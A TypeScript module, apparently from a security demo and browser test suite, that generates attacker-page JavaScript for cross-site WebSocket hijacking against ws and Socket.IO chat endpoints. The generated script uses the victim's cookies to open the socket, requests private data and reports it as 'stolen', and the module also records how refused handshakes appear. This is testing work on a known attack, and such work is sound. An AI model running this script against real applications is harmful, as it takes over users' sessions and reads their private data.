import type { ChatEndpoint } from '../chat-endpoint.js';

/** What `attack()` reports; the attacker page stores it in `window.attackOutcome`. */
export type AttackOutcome =
  /** The socket opened with the victim's session and answered with the victim's data. */
  | { readonly stolen: unknown }
  /**
   * ws: the handshake was refused. Browsers fire `error`, then `close` with 1006: the HTTP
   * status of a refused handshake is never exposed to page scripts.
   */
  | {
      readonly refused: true;
      readonly error: boolean;
      readonly closeCode: number;
      readonly wasClean: boolean;
    }
  /** Socket.IO: the handshake was refused; the client reports a `connect_error`. */
  | { readonly refused: true; readonly connectError: string }
  /**
   * The socket opened, then the app closed it before answering (the chat closes sockets
   * without a session: ws with 4401, Socket.IO with a server-side disconnect).
   */
  | { readonly closedBeforeAnswer: true; readonly closeCode: number; readonly reason: string }
  | { readonly closedBeforeAnswer: true; readonly reason: string };

/**
 * The hijacking attempt, as page JavaScript: open the victim app's socket (the browser adds
 * the victim's cookies by itself), ask for private data, and report what happened through
 * `report(outcome)`, once. The demo's attacker page and the browser test suite run this code.
 * For Socket.IO, the page must load the client first (`attackClientTag`).
 */
export function attackScript(target: ChatEndpoint): string {
  return target.transport === 'ws' ? wsAttack(target.url) : socketIoAttack(target.url);
}

/** The `<script>` that loads Socket.IO's client from the target app; none for ws. */
export function attackClientTag(target: ChatEndpoint): string {
  return target.transport === 'ws'
    ? ''
    : `<script src="${target.url}/socket.io/socket.io.js"></script>`;
}

const REPORT_ONCE = `let reported = false;
  const once = (outcome) => {
    if (reported) return;
    reported = true;
    report(outcome);
  };`;

function wsAttack(socketUrl: string): string {
  return `
function attack(report) {
  const socket = new WebSocket(${JSON.stringify(socketUrl)});
  let opened = false;
  let errored = false;
  ${REPORT_ONCE}
  socket.onopen = () => {
    opened = true;
    socket.send(JSON.stringify({ event: 'whoami', data: null }));
  };
  socket.onerror = () => {
    errored = true;
  };
  socket.onmessage = (message) => {
    once({ stolen: JSON.parse(message.data).data });
    socket.close();
  };
  socket.onclose = (event) => {
    if (!opened) once({ refused: true, error: errored, closeCode: event.code, wasClean: event.wasClean });
    else once({ closedBeforeAnswer: true, closeCode: event.code, reason: event.reason });
  };
}`;
}

/** WebSocket transport only, as a hijacking page would: it needs no CORS, polling does. */
function socketIoAttack(appOrigin: string): string {
  return `
function attack(report) {
  const socket = io(${JSON.stringify(appOrigin)}, {
    transports: ['websocket'],
    reconnection: false,
    forceNew: true,
  });
  ${REPORT_ONCE}
  socket.on('connect', () => {
    socket.emit('whoami', null, (data) => {
      once({ stolen: data });
      socket.disconnect();
    });
  });
  socket.on('connect_error', (error) => once({ refused: true, connectError: error.message }));
  socket.on('disconnect', (reason) => once({ closedBeforeAnswer: true, reason }));
}`;
}
